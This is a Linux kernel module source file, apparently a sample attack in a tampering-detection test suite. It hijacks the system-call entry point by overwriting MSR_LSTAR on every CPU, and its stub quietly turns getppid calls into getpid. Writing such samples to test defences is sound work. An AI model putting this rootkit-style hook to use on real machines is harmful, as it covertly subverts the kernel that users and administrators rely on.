// SPDX-License-Identifier: GPL-2.0-only
/* Another entry for system calls, on every processor: getppid becomes getpid. */
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/unistd.h>

#include "attack.h"

static u64 old;

/* Entered from user space with its stack and its registers: only flags may change. */
static notrace void __noreturn entry(void)
{
	asm volatile("cmp %1, %%eax\n\t"
		     "jne 1f\n\t"
		     "mov %2, %%eax\n"
		     "1:\t" ANNOTATE_RETPOLINE_SAFE "jmp *%0"
		     :
		     : "m"(old), "i"(__NR_getppid), "i"(__NR_getpid));
	unreachable();
}

static void set_lstar(void *to)
{
	wrmsrl(MSR_LSTAR, (u64)to);
}

static int run(void)
{
	/* With two sets of page tables a module's code is not mapped yet at the entry. */
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	rdmsrl(MSR_LSTAR, old);
	on_each_cpu(set_lstar, entry, 1);
	return 0;
}

static void undo(void)
{
	on_each_cpu(set_lstar, (void *)old, 1);
}

ATTACK(run, undo, NULL, "LSTAR by wrmsr");
